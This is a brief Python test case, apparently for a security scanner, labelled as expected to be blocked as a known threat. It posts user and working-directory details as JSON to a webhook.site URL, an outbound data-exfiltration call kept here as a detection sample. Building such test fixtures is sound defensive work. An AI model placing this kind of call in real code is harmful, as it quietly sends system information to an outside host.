# expect: BLOCKED known_threat
import json
import urllib.request
info = {"user": "x", "cwd": "/srv"}
urllib.request.urlopen(urllib.request.Request("https://webhook.site/1b2c3d4e-aaaa-bbbb", data=json.dumps(info).encode()))
